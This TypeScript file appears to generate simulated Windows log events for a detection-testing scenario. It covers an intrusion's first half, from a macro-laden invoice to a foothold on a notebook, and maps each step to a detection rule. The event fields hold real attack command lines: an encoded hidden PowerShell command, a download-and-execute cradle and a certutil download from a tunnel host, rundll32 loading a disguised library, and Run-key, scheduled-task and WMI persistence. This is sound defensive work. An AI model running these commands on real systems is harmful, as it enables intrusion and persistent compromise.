/**
 * The attack, first half: from an invoice in the mail to a foothold on one notebook.
 */
import { DOMAIN_SID } from '../estate.js';
import { flat, processOf, type Session, type Step, started, sysmon } from './step.js';

const NOTEBOOK = 'MUC-LT-0151';
const HOME = 'C:\\Users\\anna.krueger';
const SYNC = `${HOME}\\AppData\\Local\\Nordsync`;
const SYSTEM32 = 'C:\\Windows\\System32';
const USER = 'NORDWIND\\anna.krueger';
const SESSION: Session = {
  User: USER,
  LogonId: '0x5d1a4',
  IntegrityLevel: 'Medium',
  CurrentDirectory: `${HOME}\\`,
};

const OUTLOOK = processOf(5212, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE');
const WORD = processOf(7312, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE');
const POWERSHELL = processOf(9844, `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`);
const CERTUTIL = processOf(10212, `${SYSTEM32}\\certutil.exe`);
const RUNDLL32 = processOf(10388, `${SYSTEM32}\\rundll32.exe`);
const UPDATER = processOf(11020, `${SYNC}\\updater.exe`);
const REG = processOf(11104, `${SYSTEM32}\\reg.exe`);
const SCHTASKS = processOf(11180, `${SYSTEM32}\\schtasks.exe`);
const WHOAMI = processOf(12004, `${SYSTEM32}\\whoami.exe`);

const DOCUMENT = `${HOME}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\6QH2LZ0P\\Rechnung 2026-4471.docm`;

// IEX (Get-Content -Raw "$env:TEMP\invoice.txt"), in UTF-16
const ENCODED =
  'SQBFAFgAIAAoAEcAZQB0AC0AQwBvAG4AdABlAG4AdAAgAC0AUgBhAHcAIAAiACQAZQBuAHYAOgBUAEUATQBQAFwAaQBuAHYAbwBpAGMAZQAuAHQAeAB0ACIAKQA=';

const POWERSHELL_COMMAND = `powershell.exe -NoP -NonI -W Hidden -Enc ${ENCODED}`;

function scriptBlock(second: number, text: string): object {
  return flat(second, NOTEBOOK, 'powershell', 4104, {
    MessageNumber: '1',
    MessageTotal: '1',
    ScriptBlockText: text,
    ScriptBlockId: '0c8ab7e2-5c0f-4e0c-9c39-6f3b51f2d7a1',
    Path: '',
  });
}

export const FOOTHOLD: readonly Step[] = [
  {
    second: 412,
    story: 'Anna opens an invoice from her mail. It is a document with macros.',
    event: (at) => sysmon(at, NOTEBOOK, 11, { ...OUTLOOK, TargetFilename: DOCUMENT, User: USER }),
    rules: ['file_event_macro_document_from_mail.yml'],
  },
  {
    second: 431,
    story: 'She allows the macro, and Word starts PowerShell with an encoded command.',
    event: (at) =>
      started(
        [at, NOTEBOOK],
        SESSION,
        [POWERSHELL, POWERSHELL_COMMAND],
        [WORD, `"WINWORD.EXE" /n "${DOCUMENT}" /o ""`],
      ),
    rules: ['proc_creation_office_spawns_interpreter.yml', 'proc_creation_encoded_powershell.yml'],
  },
  {
    second: 436,
    story: 'PowerShell looks up a host behind a tunnel service.',
    event: (at) =>
      sysmon(at, NOTEBOOK, 22, {
        ...POWERSHELL,
        QueryName: 'ringfence-demo.trycloudflare.com',
        QueryStatus: '0',
        QueryResults: '::ffff:203.0.113.66;',
        User: USER,
      }),
    rules: ['dns_query_tunnel_service.yml'],
  },
  {
    second: 437,
    story: 'It connects to the address it got.',
    event: (at) =>
      sysmon(at, NOTEBOOK, 3, {
        ...POWERSHELL,
        User: USER,
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: '10.20.3.77',
        SourcePort: '51544',
        DestinationIp: '203.0.113.66',
        DestinationHostname: '-',
        DestinationPort: '443',
      }),
    rules: ['network_connection_interpreter_to_internet.yml'],
  },
  {
    second: 440,
    story: 'The cradle: the second stage is fetched as text and run without touching the disk.',
    event: (at) =>
      scriptBlock(
        at,
        "$client = New-Object Net.WebClient\r\n$text = $client.DownloadString('https://ringfence-demo.trycloudflare.com/form')\r\nInvoke-Expression $text",
      ),
    rules: ['ps_script_download_and_run.yml'],
  },
  {
    second: 468,
    story: 'Certutil, a program for certificates, downloads the next file.',
    event: (at) =>
      started(
        [at, NOTEBOOK],
        SESSION,
        [
          CERTUTIL,
          `certutil.exe -urlcache -f https://ringfence-demo.trycloudflare.com/form.dat ${HOME}\\AppData\\Local\\Temp\\form.dat`,
        ],
        [POWERSHELL, POWERSHELL_COMMAND],
      ),
    rules: ['proc_creation_certutil_download.yml'],
  },
  {
    second: 473,
    story: 'Rundll32 loads it. It is a library, whatever its extension says.',
    event: (at) =>
      started(
        [at, NOTEBOOK],
        SESSION,
        [RUNDLL32, `rundll32.exe ${HOME}\\AppData\\Local\\Temp\\form.dat,Start`],
        [POWERSHELL, POWERSHELL_COMMAND],
      ),
    rules: ['proc_creation_rundll32_not_a_dll.yml'],
  },
  {
    second: 520,
    story: 'A signed updater, copied beside a library of the intruder, loads that instead of the one of Windows.',
    event: (at) =>
      sysmon(at, NOTEBOOK, 7, {
        ...UPDATER,
        ImageLoaded: `${SYNC}\\version.dll`,
        FileVersion: '-',
        Description: '-',
        Product: '-',
        Company: '-',
        OriginalFileName: '-',
        Signed: 'false',
        Signature: '-',
        SignatureStatus: 'Unavailable',
        User: USER,
      }),
    rules: ['image_load_side_loading.yml'],
  },
  {
    second: 548,
    story: 'Persistence, first way: a Run key starts the updater at logon.',
    event: (at) =>
      sysmon(at, NOTEBOOK, 13, {
        EventType: 'SetValue',
        ...REG,
        TargetObject: `HKU\\${DOMAIN_SID}-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Nordsync`,
        Details: `${SYNC}\\updater.exe /quiet`,
        User: USER,
      }),
    rules: ['registry_set_run_key_user_folder.yml'],
  },
  {
    second: 575,
    story: 'Second way: a scheduled task.',
    event: (at) =>
      started(
        [at, NOTEBOOK],
        SESSION,
        [SCHTASKS, `schtasks.exe /create /f /sc minute /mo 30 /tn "Nordsync Update" /tr "${SYNC}\\updater.exe /quiet"`],
        [UPDATER, `${SYNC}\\updater.exe`],
      ),
    rules: ['proc_creation_schtasks_user_folder.yml'],
  },
  {
    second: 640,
    story: 'Third way: a WMI subscription, which leaves no file behind.',
    event: (at) =>
      sysmon(at, NOTEBOOK, 20, {
        EventType: 'WmiConsumerEvent',
        Operation: 'Created',
        User: USER,
        Name: 'NordsyncConsumer',
        Type: 'Command Line',
        Destination: `powershell -NoP -W Hidden -File ${SYNC}\\sync.ps1`,
      }),
    rules: ['wmi_event_command_consumer.yml'],
  },
  {
    second: 905,
    story: 'The intruder asks who he is.',
    event: (at) =>
      started([at, NOTEBOOK], SESSION, [WHOAMI, 'whoami.exe /all'], [UPDATER, `${SYNC}\\updater.exe /quiet`]),
    rules: ['proc_creation_domain_discovery.yml'],
  },
  {
    second: 1010,
    story: 'A script lists the service accounts of the domain.',
    event: (at) =>
      scriptBlock(at, 'Get-DomainUser -Domain nordwind.example -SPN | Select-Object samaccountname, description'),
    rules: ['powershell_reconnaissance_functions.yml'],
  },
];
